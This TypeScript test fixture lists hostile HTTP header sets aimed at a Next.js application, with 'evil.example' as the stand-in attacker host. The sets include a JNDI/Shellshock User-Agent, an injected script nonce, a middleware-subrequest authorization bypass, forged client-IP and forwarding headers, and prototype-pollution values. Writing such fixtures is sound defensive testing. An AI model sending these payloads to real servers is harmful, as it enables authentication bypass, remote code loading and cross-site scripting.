import { randomUUID } from "node:crypto";
import type { Lines } from "./raw.ts";

/** Stands in everything that must not come back. */
export const marker = "evil.example";

const tree = (words: unknown) => encodeURIComponent(JSON.stringify(words));
const long = (letters: number) => "x".repeat(letters);

/** What a client can write above a request to be taken for somebody else, or to hurt: by what it tries. Each comes after a proper `Host`. */
export const hostileHeaders: Record<string, Lines> = {
  "a foreign host beside ours": [`Host: ${marker}`],
  "a forwarded host": [`X-Forwarded-Host: ${marker}`, "X-Forwarded-Proto: https", "X-Forwarded-Port: 1"],
  "a forwarded address": [`Forwarded: for=${marker};host=${marker};proto=https`, `X-Real-IP: ${marker}`],
  "a path of another server": [`X-Original-URL: /customers`, `X-Rewrite-URL: //${marker}`, "X-Forwarded-Prefix: //evil.example"],
  "an address of one's own": ["X-Forwarded-For: 127.0.0.1", "Client-IP: 127.0.0.1", "True-Client-IP: 127.0.0.1", "X-Client-IP: ::1"],
  "an address that is none": [`X-Forwarded-For: ${long(4000)}, ';--, ${marker}`],
  "the product's own path": [`X-Path: //${marker}/?session=1`],
  "the product's own origin of a form": [`X-From: //${marker}/`],
  "the product's own nonce": [`X-Nonce: '"><script src=//${marker}>`],
  "a policy of its own": [`Content-Security-Policy: script-src 'unsafe-inline' 'nonce-${marker}'`],
  "a subrequest of the middleware": ["X-Middleware-Subrequest: proxy:proxy:proxy:proxy:proxy:src/proxy:middleware:middleware:middleware"],
  "the middleware's answers": [
    "X-Middleware-Next: 1",
    `X-Middleware-Rewrite: https://${marker}/`,
    `X-Middleware-Redirect: https://${marker}/`,
  ],
  "the middleware's headers": [
    "X-Middleware-Override-Headers: cookie,x-path",
    "X-Middleware-Request-Cookie: session=x",
    "X-Middleware-Set-Cookie: session=x",
  ],
  "the middleware's id": ["X-Middleware-Subrequest-Id: 1", "X-Middleware-Prefetch: 1", "X-Middleware-Invoke: 1"],
  "what Next tells itself": ["X-Invoke-Path: /customers", "X-Invoke-Query: %7B%7D", "X-Invoke-Output: /customers", "X-Invoke-Status: 200"],
  "an error that Next tells itself": ["X-Invoke-Status: 500", "X-Invoke-Error: %7B%22message%22%3A%22evil.example%22%7D"],
  "a broken error of Next's": ["X-Invoke-Error: {", "X-Invoke-Query: {", "X-Matched-Path: /%"],
  "a page that Next has matched": ["X-Matched-Path: /customers", "X-Now-Route-Matches: 1=customers", "X-Nextjs-Data: 1"],
  "a preview of a page": [
    "X-Prerender-Revalidate: true",
    "X-Prerender-Bypass-Mode: static",
    "Cookie: __prerender_bypass=x; __next_preview_data=x",
  ],
  "a page for a script": ["RSC: 1"],
  "a prefetch": ["RSC: 1", "Next-Router-Prefetch: 1", "Purpose: prefetch"],
  "a part of a prefetch": ["RSC: 1", "Next-Router-Prefetch: 1", "Next-Router-Segment-Prefetch: /../_tree"],
  "a tree of pages that is none": ["RSC: 1", "Next-Router-State-Tree: garbage"],
  "a tree of pages that is no tree": ["RSC: 1", `Next-Router-State-Tree: ${tree({ __proto__: { polluted: 1 }, constructor: 1 })}`],
  "a tree of pages that is not encoded": ["RSC: 1", "Next-Router-State-Tree: %E0%A4%A"],
  "a tree of other pages": [
    "RSC: 1",
    `Next-Router-State-Tree: ${tree(["", { children: ["customers", { children: ["__PAGE__", {}, null, "refetch"] }] }, null, null, true])}`,
  ],
  "a deep tree of pages": ["RSC: 1", `Next-Router-State-Tree: ${"[".repeat(3000)}`],
  "a tree without scripts": ["Next-Router-State-Tree: garbage"],
  "the next address of a script": ["RSC: 1", `Next-Url: //${marker}/`],
  "a hot reload": [
    "Next-Hmr-Refresh: 1",
    "Next-Hmr-Refresh-Hash: x",
    "Next-Html-Request-Id: evil.example",
    "Next-Instant-Navigation-Testing: 1",
  ],
  "an action that nobody has": [`Next-Action: ${long(42)}`],
  "an action that never was": ["Next-Action: 00aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"],
  "an action named like what every object has": ["Next-Action: __proto__"],
  "a resumed page": ["Next-Resume: 1", "X-Next-Cache-Tags: x", "X-Next-Revalidated-Tags: x", "X-Next-Resume-State-Length: 9"],
  "two sets of cookies": ["Cookie: session=x", "Cookie: session=y"],
  "a cookie that is none": ["Cookie: session=%E0%A4%A; =; session; __Host-session=x; a b=c"],
  "sixteen kilobytes": [`X-Large: ${long(16_000)}`],
  "half a gigabyte of range": ["Range: bytes=0-0,1-1,2-2,9-99999999999", "If-Range: x", "If-None-Match: *", 'If-Match: "x"'],
  "a language that is none": [`Accept-Language: ${"xx-".repeat(1000)};q=9, ../../sv, ${marker}`],
  "an encoding that is none": ["Accept-Encoding: evil.example, *;q=0, br;q=-1", "Accept: evil.example/*;q=x", "TE: trailers, x"],
  "another method": ["X-HTTP-Method-Override: DELETE", "X-HTTP-Method: PUT", "X-Method-Override: POST"],
  "another site": [`Origin: https://${marker}`, `Referer: https://${marker}/customers`, "Sec-Fetch-Site: cross-site"],
  "a browser that is code": [`User-Agent: \${jndi:ldap://${marker}/} () { :; }; echo <script>alert(1)</script>`],
  "rights of its own": [`Authorization: Bearer ${randomUUID()}`, "X-User-Id: 1", "X-Admin: true", "Proxy-Authorization: Basic YTph"],
  "another protocol": ["Upgrade: websocket", "Connection: Upgrade", "Sec-WebSocket-Key: x", "Sec-WebSocket-Version: 13"],
  "an upgrade to HTTP/2": ["Upgrade: h2c", "HTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA"],
  "what it waits for": ["Expect: 100-continue", "Max-Forwards: 0"],
};
